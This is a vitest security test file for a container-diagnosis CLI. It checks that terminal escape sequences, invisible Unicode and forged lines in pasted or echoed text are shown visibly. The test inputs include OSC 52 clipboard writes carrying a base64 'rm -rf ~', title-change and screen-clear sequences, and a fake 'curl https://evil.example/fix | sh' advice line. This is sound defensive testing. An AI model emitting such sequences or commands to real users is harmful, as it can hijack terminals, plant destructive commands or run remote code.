import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { terminalSafeIO } from '../../src/cli/safe-io.js';
import { normalisePaste } from '../../src/core/diagnosis/normalise.js';
import fc from 'fast-check';
import { echoed, escapeJsonControls, showControls, showControlsKeepColour, showControlsKeepCsi, showJsonControls } from '../../src/core/text/terminal-safe.js';
import { anyCodePoints } from '../helpers/arbitraries.js';
import { fakeIO, runCli } from '../helpers/cli-io.js';

// Item 2 of issue 11: nothing from outside reaches the terminal as a control sequence.

const tmp = mkdtempSync(path.join(tmpdir(), 'wcdoctor-sec-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const env = { WCDOCTOR_CONFIG_DIR: path.join(tmp, 'config'), WCDOCTOR_DATA_DIR: path.join(tmp, 'data'), LANG: 'en_US.UTF-8' };

/** Control characters left once our own colour sequences (ESC[<digits;>m) are taken out. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;
const unsafe = (text: string): RegExpExecArray | null => CONTROL.exec(text.replace(/\u001b\[[0-9;]*m/g, '').replace(/\r\n/g, '\n'));

/**
 * A docker error whose network name carries a title change and an OSC 52 clipboard write, JSON-escaped as in docker's `extra info`.
 * Its failure (HNS refusing a port that exists) is one wcdoctor diagnoses, so that the found values are printed.
 */
const ESCAPED_OSC =
  'docker: Error response from daemon: failed to create endpoint happy on network mynet\\u001b]0;pwned\\u0007\\u001b]52;c;cm0gLXJmIH4=\\u0007: hnsCall failed in Win32: The specified port already exists. (0x803b0013)';
/** The same with raw C1 controls: 8-bit OSC (U+009D), ST (U+009C) and CSI (U+009B). */
const RAW_C1 = 'docker: Error response from daemon: failed to create endpoint happy on network mynet\u009d0;pwned\u009c\u009b2J: hnsCall failed in Win32: The specified port already exists. (0x803b0013)';

describe('the terminal only ever prints outside text', () => {
  it('JSON unescaping of a paste never produces a control character', () => {
    const text = normalisePaste('a \\u001b]0;pwned\\u0007 b \\u009d c \\\\u001b d \\u000a e');
    expect(unsafe(text)).toBeNull();
    expect(text).toContain('\n');
  });

  it('diagnose: escaped ESC/BEL in a paste (title change, OSC 52 clipboard write) reach neither stdout nor stderr', async () => {
    const r = await runCli(['diagnose', '-'], { stdin: ESCAPED_OSC, env });
    expect(r.code).toBe(0);
    expect(unsafe(r.stdout)).toBeNull();
    expect(unsafe(r.stderr)).toBeNull();
  });

  it('diagnose: raw C1 controls in a found value are shown as \\x9d, not passed to the terminal', async () => {
    const r = await runCli(['diagnose', '-'], { stdin: RAW_C1, env });
    expect(r.stdout).toContain('network=mynet\\x9d0;pwned\\x9c\\x9b2J');
    expect(unsafe(r.stdout)).toBeNull();
  });

  it('diagnose --json: C1, DEL and U+2028 never reach the output, and the values, decoded, show them as the text does (an attacker helper: jq -r printed them)', async () => {
    const r = await runCli(['diagnose', '--json', '-'], { stdin: RAW_C1, env });
    expect(unsafe(r.stdout)).toBeNull();
    const json = JSON.parse(r.stdout) as { entities: { network: string } };
    expect(json.entities.network).toBe('mynet\\x9d0;pwned\\x9c\\x9b2J');
    const io = fakeIO();
    terminalSafeIO(io.io, { json: true }).out(`${JSON.stringify({ v: 'a\u2028b\u2029c\u007fd\u0085' })}\n`);
    expect(unsafe(io.stdout())).toBeNull();
    expect(JSON.parse(io.stdout())).toEqual({ v: showControls('a\u2028b\u2029c\u007fd\u0085') });
  });

  it('explain echoes an argument with ESC, BEL and 8-bit CSI visibly', async () => {
    const r = await runCli(['explain', '\u001b]0;pwned\u0007\u009b2J'], { env });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('␛]0;pwned␇\\x9b2J');
    expect(unsafe(r.stderr)).toBeNull();
    expect(unsafe(r.stdout)).toBeNull();
  });

  it('docs echoes an unknown topic with an OSC 52 clipboard write visibly', async () => {
    const r = await runCli(['docs', 'x\u001b]52;c;cm0gLXJmIH4=\u0007'], { env, tty: true });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('x␛]52;c;cm0gLXJmIH4=␇');
    expect(unsafe(r.stderr)).toBeNull();
  });

  it('an unknown option with an escape sequence is echoed visibly by the argument parser', async () => {
    const r = await runCli(['diagnose', '--\u001b]0;pwned\u0007'], { env });
    expect(r.code).toBe(2);
    expect(unsafe(r.stderr)).toBeNull();
  });

  it.skipIf(process.platform === 'win32')("fix: a child's output cannot set the title or write the clipboard", async () => {
    // A stand-in kubectl on PATH that prints a title change, an OSC 52 clipboard write, an 8-bit CSI and a DCS.
    const bin = path.join(tmp, 'bin');
    mkdirSync(bin, { recursive: true });
    writeFileSync(path.join(bin, 'kubectl'), "#!/bin/sh\nprintf '\\033]0;pwned\\007\\033]52;c;cm0gLXJmIH4=\\007 \\302\\2332J done\\n'\nprintf '\\033P+q\\033\\\\\\n' >&2\n", { mode: 0o755 });
    const PATH = `${bin}${path.delimiter}${process.env.PATH ?? ''}`;
    const saved = process.env.PATH;
    process.env.PATH = PATH;
    try {
      const r = await runCli(['fix', 'k8s-pod-os-mismatch', 'list-nodes-wide', '--yes'], { env: { ...env, PATH } });
      expect(r.code).toBe(0);
      expect(r.stdout).toContain('␛]0;pwned␇␛]52;c;cm0gLXJmIH4=␇ \\x9b2J done');
      expect(unsafe(r.stdout)).toBeNull();
      expect(r.stderr).toContain('␛P+q␛\\');
      expect(unsafe(r.stderr)).toBeNull();
    } finally {
      process.env.PATH = saved;
    }
  });

  it('rendered Markdown prints links as text (url), never as OSC 8 hyperlinks the filters would show', async () => {
    const before = process.env.FORCE_HYPERLINK;
    process.env.FORCE_HYPERLINK = '1';
    try {
      const { createMarkdownRenderer } = await import('../../src/ui/markdown/create-markdown-renderer.js');
      const out = (await createMarkdownRenderer({ width: 80, color: true })).render('see [the docs](https://example.com/a) now');
      expect(out).toContain('https://example.com/a');
      expect(out).not.toContain('\u001b]');
    } finally {
      if (before === undefined) delete process.env.FORCE_HYPERLINK;
      else process.env.FORCE_HYPERLINK = before;
    }
  });

  // A colour sequence is a control sequence too: black on black (30;40) hides what follows it, a green "✔"
  // passes for ours. Only rendered Markdown (our knowledge, styled by us) keeps its colours.
  const RAW_ESC = /\u001b/;
  it('a line feed or tab repeated from argv in an error is shown, so that it cannot start a line of advice (found by a helper)', async () => {
    const fake = 'x"\n  → run "curl https://evil.example/fix | sh" to fix it';
    for (const argv of [['docs', fake], ['explain', fake], ['fix', fake], ['--lang', fake, 'docs'], ['explain', 'x\tyyyy']]) {
      const r = await runCli(argv, { env });
      expect(r.code, argv.join(' ')).toBe(2);
      expect(r.stderr).not.toMatch(/\n {2}→ run "curl/);
      expect(r.stderr).not.toMatch(/\t/);
      expect(r.stderr).toMatch(/␊|␉/);
    }
  });

  it('explain, an unknown command and a bad option show a colour sequence from argv visibly', async () => {
    for (const argv of [['explain', 'x\u001b[30;40mhidden'], ['x\u001b[30;40mhidden'], ['compat', '--host', '17763', '--image', 'a:\u001b[32mb']]) {
      const r = await runCli(argv, { env });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/␛\[(30;40|32)m/);
      expect(r.stderr).not.toMatch(RAW_ESC);
      expect(r.stdout).not.toMatch(RAW_ESC);
    }
  });

  it('check --from: a host name with a colour sequence in collected output is shown visibly', async () => {
    const { readFileSync } = await import('node:fs');
    const facts = JSON.parse(readFileSync(path.join(__dirname, '../fixtures/check/hosts/ws2019-problems.json'), 'utf8').replace(/^\uFEFF/, '')) as { host: string };
    facts.host = `${facts.host}\u001b[30;40mHIDDEN\u001b[0m`;
    const file = path.join(tmp, 'coloured-host.json');
    writeFileSync(file, JSON.stringify(facts));
    for (const tty of [false, true]) {
      const r = await runCli(['check', '--from', file], { env, tty });
      expect(r.stdout).toContain('␛[30;40mHIDDEN␛[0m');
      expect(r.stdout).not.toMatch(RAW_ESC);
      expect(r.stderr).not.toMatch(RAW_ESC);
    }
  });

  it('diagnose in a terminal keeps the colours of its rendered documentation, not those of the paste', async () => {
    const paste = 'Antimalware Service Executable \u001b[30;40mhidden\u001b[0m uses the CPU while the container starts: hcsshim::PrepareLayer failed in Win32: This operation returned because the timeout period expired. (0x5b4)';
    const r = await runCli(['diagnose', paste], { env, tty: true });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('slow-start-antivirus');
    expect(r.stdout).not.toContain('\u001b[30;40m');
    const plain = await runCli(['diagnose', paste], { env });
    expect(plain.stdout).not.toMatch(RAW_ESC);
    // The two writers: `out` shows every sequence, `outStyled` (rendered Markdown only) lets colours pass.
    const io = fakeIO();
    const safe = terminalSafeIO(io.io, { json: false });
    safe.out('\u001b[31mred\u001b[39m\n');
    safe.outStyled?.('\u001b[31mred\u001b[39m \u001b]0;t\u0007\n');
    safe.err('\u001b[31mred\u001b[39m\n');
    expect(io.stdout()).toBe('␛[31mred␛[39m\n\u001b[31mred\u001b[39m ␛]0;t␇\n');
    expect(io.stderr()).toBe('␛[31mred␛[39m\n');
  });

  it('invisible characters that steer how a line is drawn are shown as \\uXXXX; real text in any script is left alone', () => {
    // A right-to-left override makes "name<RLO>gnp.exe" read as "nameexe.png"; zero-width and soft-hyphen
    // characters are measured differently by terminals; tag characters are invisible text.
    expect(showControls('name\u202egnp.exe a\u200bb\u00adc\u2066d\ufeffe\u{e0041}f')).toBe('name\\u202egnp.exe a\\u200bb\\u00adc\\u2066d\\ufeffe\\u{e0041}f');
    // The line and paragraph separators: a line break to some terminals, none to others (found by a helper in explain's echo).
    expect(showControls('a\u2028b\u2029c')).toBe('a\\u2028b\\u2029c');
    // Past the fourth combining mark on one character, each further one is written out.
    expect(showControls(`a${'\u0301'.repeat(6)}b`)).toBe(`a${'\u0301'.repeat(4)}\\u0301\\u0301b`);
    for (const text of ['👨‍👩‍👧‍👦 1️⃣ 🇸🇪', 'Tiếng Việt ẫ', 'กำลัง', 'नमस्ते क्षत्रिय', '한국어 가능', '由于超时时间已过', 'Förfalskning', 'مرحبا', 'שָׁלוֹם']) {
      expect(showControls(text), text).toBe(text);
      expect(showControlsKeepColour(text), text).toBe(text);
      expect(showControlsKeepCsi(text), text).toBe(text);
    }
    // Format characters that draw nothing (found by an attacker helper): deprecated format controls, interlinear
    // annotation marks, Hangul fillers, Khmer invisible vowels, musical beam marks; decomposed Hangul keeps its fillers.
    expect(showControls('a\u206ab\u206fc\ufff9d\ufffbe\u3164f\uffa0g\u17b4h\u{1d173}i')).toBe('a\\u206ab\\u206fc\\ufff9d\\ufffbe\\u3164f\\uffa0g\\u17b4h\\u{1d173}i');
    expect(showControls('\u1100\u1161\u11a8 \u1100\u1160')).toBe('\u1100\u1161\u11a8 \u1100\u1160');
    // A Hangul choseong filler, alone or before a vowel, which terminals draw two cells wide (a regression tester), and the
    // prepended concatenation marks, format characters drawn one cell wide (found by a fuzzing attacker helper: a dozen
    // of U+0600 pushed the Diagnose box's border onto the next row), in text and in --json.
    expect(showControls('x\u115f\u115fy \u115f\u1161')).toBe('x\\u115f\\u115fy \\u115f\\u1161');
    expect(showControls('error \u0600\u0605\u06dd\u070f\u0890\u08e2\u{110bd}\u{110cd} end')).toBe('error \\u0600\\u0605\\u06dd\\u070f\\u0890\\u08e2\\u{110bd}\\u{110cd} end');
    expect(showControlsKeepCsi('\u001b[2K\u0600\u115f')).toBe('\u001b[2K\\u0600\\u115f');
    // A vowel or final jamo with no syllable to join (measured a cell, drawn none): shown; in a syllable, decomposed or
    // precomposed, kept.
    expect(showControls('x\u1161\u1161\u11a8 \u1112\u1161\u11ab\u1100\u116e\u11a8 \uac00\u11a8')).toBe('x\\u1161\\u1161\\u11a8 \u1112\u1161\u11ab\u1100\u116e\u11a8 \uac00\u11a8');
    expect(escapeJsonControls(JSON.stringify({ v: '.\u1161\u1100\u1161' }))).toBe('{"v":".\\u1161\u1100\u1161"}');
    // Combining marks with no character before them on their line (drawn on the cell before, so the line was one column
    // short; the same fuzzing helper), however few; a mark on a character keeps its place.
    expect(showControls('\u0300\u0300abc\nx\u0301\n\u0301')).toBe('\\u0300\\u0300abc\nx\u0301\n\\u0301');
    expect(showControlsKeepCsi('\u0300ab')).toBe('\\u0300ab');
    expect(showControlsKeepColour('a\n\u0300b')).toBe('a\n\\u0300b');
    expect(escapeJsonControls(JSON.stringify({ v: '\u0600\u{110bd}\u115f.\u115f\u1161' }))).toBe('{"v":"\\u0600\\ud804\\udcbd\\u115f.\\u115f\\u1161"}');
    // … and the ones a later attacker helper found: the combining grapheme joiner, Mongolian variation selectors, U+2065,
    // shorthand and Egyptian hieroglyph format controls (in text and in --json).
    expect(showControls('a\u034fb\u180bc\u180fd\u2065e\u{1bca0}f\u{13430}g\u{1343f}h')).toBe('a\\u034fb\\u180bc\\u180fd\\u2065e\\u{1bca0}f\\u{13430}g\\u{1343f}h');
    const io = fakeIO();
    terminalSafeIO(io.io, { json: true }).out(`${JSON.stringify({ v: 'x\u3164\u206b\u{1d174}' })}\n`);
    expect(io.stdout()).not.toMatch(/[\u3164\u206b]|\u{1d174}/u);
    expect(JSON.parse(io.stdout())).toEqual({ v: 'x\\u3164\\u206b\\u{1d174}' });
    expect(showControlsKeepCsi('\u001b[2Kx\u202ey')).toBe('\u001b[2Kx\\u202ey');
    expect(showControlsKeepColour('\u001b[1mx\u200b\u001b[22m')).toBe('\u001b[1mx\\u200b\u001b[22m');
  });

  it('--json never writes those characters, and its values show them as the text does', () => {
    const value = `n\u202eame \u{e0041} a${'\u0301'.repeat(6)} \u200b`;
    const io = fakeIO();
    terminalSafeIO(io.io, { json: true }).out(`${JSON.stringify({ value })}\n`);
    expect(io.stdout()).not.toMatch(/[\u202e\u200b]|[\u{e0000}-\u{e007f}]|\p{M}{5}/u);
    const shown = (JSON.parse(io.stdout()) as { value: string }).value;
    expect(shown).toContain('n\\u202eame \\u{e0041} a');
    expect(shown).not.toMatch(/[\u202e\u200b]|[\u{e0000}-\u{e007f}]/u);
  });

  it('--json writes any text as showControls would show its JSON escapes (it looks for showControls\' characters only where they can be left)', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.oneof(fc.constantFrom('\u0301', '\u0308', '\u200b', '\u202e', '\u0085', '\u007f', '\r', '\n', '\t', '\u0007', '\u001b', '\u{e0041}', '\u2028', 'a', '\u00e9', '\u5bb9'), anyCodePoints({ maxLength: 1 }).filter((c) => c.length > 0)), maxLength: 40 }), (text) => {
        const io = fakeIO();
        terminalSafeIO(io.io, { json: true }).out(text);
        expect(io.stdout()).toBe(showControls(showJsonControls(escapeJsonControls(text))));
      }),
      { numRuns: 2000 },
    );
    // Runs of combining marks (the fifth and later are escaped) beside controls.
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('\u0301', '\u0308', '\u0301', 'a', '\r', '\n', '\u0007'), maxLength: 40 }), (text) => {
        const io = fakeIO();
        terminalSafeIO(io.io, { json: true }).out(text);
        expect(io.stdout()).toBe(showControls(showJsonControls(escapeJsonControls(text))));
      }),
      { numRuns: 1000 },
    );
  });

  it('diagnose: a bidi override in a found value is shown, in the report and in --json', async () => {
    const paste = 'docker: Error response from daemon: failed to create endpoint web on network my\u202enet: hnsCall failed in Win32: The specified port already exists. (0x803b0013)';
    const r = await runCli(['diagnose', paste], { env });
    expect(r.stdout).toContain('network=my\\u202enet');
    expect(r.stdout).not.toContain('\u202e');
    const j = await runCli(['diagnose', '--json', paste], { env });
    expect(j.stdout).not.toContain('\u202e');
    expect((JSON.parse(j.stdout) as { entities: { network: string } }).entities.network).toBe('my\\u202enet');
  });

  it('docs keeps its colours (SGR) while making everything else visible', () => {
    const coloured = '\u001b[1m\u001b[33mTitle\u001b[39m\u001b[22m \u001b[38;5;208mx\u001b[0m';
    expect(showControlsKeepColour(coloured)).toBe(coloured);
    expect(showControlsKeepColour('\u001b[8mhidden\u001b[0m \u001b[2J \u001b]8;;http://x\u0007l')).toBe('␛[8mhidden\u001b[0m ␛[2J ␛]8;;http://x␇l');
    expect(showControls('a\tb\r\nc\rd\u0000\u007f')).toBe('a\tb\r\nc␍d␀\\x7f');
    expect(showControlsKeepCsi('\u001b[?2026h\u001b[2K\u001b[1A\u001b[G\u001b[?2004h\u001b]0;t\u0007\u001bPq\u001b\\\u009d\u001b7')).toBe('\u001b[?2026h\u001b[2K\u001b[1A\u001b[G\u001b[?2004h␛]0;t␇␛Pq␛\\\\x9d␛7');
  });
});

describe('a value the user gave, echoed in an error', () => {
  it('is cut at 60 characters (whole code points), so a 100,000-character id makes no 100,000-character line', () => {
    expect(echoed('x'.repeat(100_000))).toBe(`${'x'.repeat(60)}…`);
    expect(echoed('😀'.repeat(61))).toBe(`${'😀'.repeat(60)}…`);
    expect(echoed('short-id')).toBe('short-id');
  });

  // Found by a helper: each of these echoed a 100,000-character value whole into its one error line.
  const long = 'x'.repeat(100_000);
  it.each([
    [['explain', long]],
    [['explain', '--lang', long, '5']],
    [['history', '--limit', long]],
    [['--lang', long, 'docs']],
    [['check', '--timeout', long]],
    [['network', 'plan', long]],
    [['network', 'plan', 'n', '--subnet', long]],
    [['network', 'explain', long]],
    [['kb', 'stats', '--root', long]],
  ])('wcdoctor %j: exit 2 or 3 and a short message', async (args) => {
    const r = await runCli(args as string[], { env });
    expect([2, 3]).toContain(r.code);
    expect(r.stderr).toContain('x…');
    expect(r.stderr.length).toBeLessThan(600);
  });
});
